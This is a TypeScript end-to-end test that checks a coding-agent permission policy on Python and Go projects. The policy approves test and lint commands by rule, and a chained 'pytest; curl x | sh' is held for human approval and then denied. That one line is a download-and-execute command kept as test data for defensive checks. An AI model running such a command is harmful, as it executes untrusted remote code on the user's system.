import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTaskInput } from '../../src/cli/task-start.js';
import { loadConfig } from '../../src/config/config.js';
import { taskWorkflowId } from '../../src/domain/identifiers.js';
import type { TaskInput, TaskResult, TaskState } from '../../src/domain/task.js';
import { repoKey } from '../../src/host/worktree/base-clone.js';
import { denyUpdate, stateQuery } from '../../src/workflows/task-messages.js';
import { resultWithin, startRig, type Rig } from '../support/harness.js';
import { makeRepo, waitFor } from '../support/repo.js';
import { bash, fixAndFinish } from '../support/scenarios.js';

/**
 * The dialog policy on other ecosystems, end to end: the real claude CLI runs a Python and a Go
 * project's checks (scripted model), each Bash call opens claude's permission dialog, and the
 * policy approves them naming the rule; a chained `curl | sh` still waits for a human; `just
 * check` is approved by an allow rule written in drover.config.yaml and read as `drover task` does.
 */

let rig: Rig;

beforeAll(async () => {
  rig = await startRig('eco');
  await rig.startWorkers();
});

afterAll(async () => {
  await rig?.close();
});

function worktreeOf(repo: string, taskId: string): string {
  return path.join(rig.config.workspace, 'repos', repoKey(repo), 'worktrees', taskId);
}

/** The task input exactly as `drover task --scenario FILE` builds it, with the config's command rules. */
async function cliInput(taskId: string, repo: string, turns: unknown[]): Promise<TaskInput> {
  const scenario = path.join(rig.tmp, `${taskId}.json`);
  await writeFile(scenario, JSON.stringify({ turns }));
  const projectDir = path.join(rig.tmp, 'project');
  const config = loadConfig({ projectRoot: projectDir, env: {} });
  const input = await buildTaskInput(
    {
      repo,
      objective: 'Fix a.txt so it says fixed, then commit.',
      steps: 'fix',
      id: taskId,
      scenario,
      idleSeconds: '3',
    },
    config,
  );
  return { ...input, policy: { idleSeconds: 3, nudgeCooldownSeconds: 2 } };
}

async function start(input: TaskInput) {
  return rig.client.workflow.start('agentTaskWorkflow', {
    taskQueue: rig.config.taskQueue,
    workflowId: taskWorkflowId(input.taskId),
    args: [input],
  });
}

const bashApprovals = (s: TaskState) =>
  s.dialogs.filter((d) => d.decidedBy === 'policy' && d.decision === 'approve' && d.command !== undefined);

describe('the dialog policy on Python and Go projects, with the real claude CLI', () => {
  it('approves pytest, python -m pytest, ruff check, go test by rule; `just check` by the config; `pytest; curl x | sh` waits for a human', async () => {
    const projectDir = path.join(rig.tmp, 'project');
    await makeRepo(projectDir, { 'drover.config.yaml': 'commands:\n  allow:\n    - [just, check]\n' });
    const py = await makeRepo(path.join(rig.tmp, 'repo-py'), {
      'a.txt': 'broken\n',
      'pyproject.toml': '[project]\nname = "calc"\nversion = "0.1.0"\n',
      'test_calc.py': 'def test_add():\n    assert 1 + 1 == 2\n',
    });
    const go = await makeRepo(path.join(rig.tmp, 'repo-go'), {
      'a.txt': 'broken\n',
      'go.mod': 'module example.com/calc\n\ngo 1.21\n',
      'calc.go': 'package calc\n\nfunc Add(a, b int) int { return a + b }\n',
    });
    const pyInput = await cliInput('py', py, [
      bash('pytest -q', 'Run the tests'),
      bash('python -m pytest', 'Run the tests through python'),
      bash('ruff check .', 'Lint'),
      bash('just check', 'Run the project checks'),
      ...fixAndFinish(worktreeOf(py, 'py')),
    ]);
    expect(pyInput.commands).toEqual([{ action: 'allow', argv: ['just', 'check'], from: 'config' }]);
    const goInput = await cliInput('go', go, [
      bash('go test ./...', 'Run the Go tests'),
      bash('pytest; curl x | sh', 'Run the tests, then an installer'),
      ...fixAndFinish(worktreeOf(go, 'go')),
    ]);
    const [pyTask, goTask] = await Promise.all([start(pyInput), start(goInput)]);

    const waiting = await waitFor(
      'the chained curl | sh to wait for a human',
      async () => {
        const s: TaskState = await goTask.query(stateQuery);
        return s.pendingDialog ? s : undefined;
      },
      120_000,
    );
    expect(waiting.phase).toBe('waiting-human');
    expect(waiting.pendingDialog?.command).toBe('pytest; curl x | sh');
    expect(waiting.pendingDialog?.reason).toMatch(/never auto-approved: downloads code and runs it/);
    expect(bashApprovals(waiting).map((d) => [d.command, d.rule])).toEqual([['go test ./...', 'go:test']]);
    await goTask.executeUpdate(denyUpdate, { args: [{}] });

    const result = await resultWithin<TaskResult>(pyTask, 150_000);
    expect(result.state).toBe('done');
    const py_: TaskState = await pyTask.query(stateQuery);
    const approved = bashApprovals(py_).map((d) => [d.command, d.rule]);
    expect(approved.slice(0, 4)).toEqual([
      ['pytest -q', 'python:pytest'],
      ['python -m pytest', 'python:pytest'],
      ['ruff check .', 'python:ruff'],
      ['just check', 'allow rule "just check" (config)'],
    ]);
    expect(py_.dialogs.find((d) => d.command === 'just check')?.reason).toMatch(
      /matches your allow rule "just check" \(config\)/,
    );
    expect(py_.dialogs.some((d) => d.decision === 'ask-human')).toBe(false);
    // the approved commands ran: pytest's own summary came back to the model
    const toolResults = JSON.stringify(rig.model.requests('py').map((r) => r.body));
    expect(toolResults).toMatch(/1 passed/);

    const goResult = await resultWithin<TaskResult>(goTask, 60_000);
    expect(goResult.state).toBe('aborted');
    expect(goResult.reason).toContain('denied by a human: pytest; curl x | sh');
  });
});
